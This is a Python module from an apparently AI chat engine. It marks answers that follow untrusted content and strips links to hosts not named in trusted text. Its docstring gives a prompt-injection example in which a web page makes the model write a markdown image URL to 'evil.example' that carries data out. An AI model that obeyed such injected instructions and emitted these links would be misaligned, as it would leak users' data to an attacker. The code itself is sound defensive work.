"""Whether an answer follows untrusted content, and so how the channel is to show it.

An answer written after the model read text nobody in the chat wrote is shown without link
previews, and with links only to hosts that trusted text named (:class:`engine.Untrusted`):
an instruction in a web page that makes the model write ``![](http://evil.example/?q=…)`` then
sends nothing by itself. Which messages are untrusted is their provenance's say, read as the
containment policy reads it (engine/loop/_containment.py: the turn's :class:`Taint`, which also
counts its summary's sources and a quoted message); the hosts that stay links are those named in
trusted text, the owner's system prompt and the requester's own words. That is stricter than
leaving out the hosts untrusted text named: a host an injection has the model spell out (or
that is named nowhere) is not a link either.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from engine._channel import Untrusted
from engine.loop import Taint
from engine.models import Message, Role

# Hosts as people write them: a domain (with or without a scheme) or an IPv4 address.
_HOST = re.compile(
    r"(?<![\w.@-])(?:[a-z][a-z0-9+.-]*://)?(?:[^\s/@]+@)?"
    r"((?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)",
    re.I,
)


def hosts_in(text: str) -> set[str]:
    """The hosts `text` names, lower case, without a leading ``www.``."""
    return {m[1].lower().removeprefix("www.") for m in _HOST.finditer(text)}


def untrusted_of(
    context: Sequence[Message],
    system: str = "",
    requester: str | None = None,
    *,
    taint: Taint | None = None,
    tool_text: bool = False,
) -> Untrusted | None:
    """How to show an answer to `context` (the messages the model read, in order), or None
    when all of it is trusted. `requester` is the user id of whom the turn answers (None: every
    member's message counts as another's); `taint` is the turn's own, when the loop gave one.
    `tool_text`: the text is a tool's (send_message, a result shown as it is): untrusted."""
    sources = [] if taint is None else list(taint.sources)
    trusted = [system]
    for m in context:
        if m.role is Role.ASSISTANT:
            continue
        if m.provenance.trusted_for(requester or ""):
            if m.role is Role.USER:
                trusted.append(m.text or "")
        else:
            sources.append(m.provenance.source or "an unknown source")
    if not sources and not tool_text:
        return None
    hosts = frozenset().union(*(hosts_in(t) for t in trusted))
    return Untrusted(hosts, tuple(dict.fromkeys(sources)))
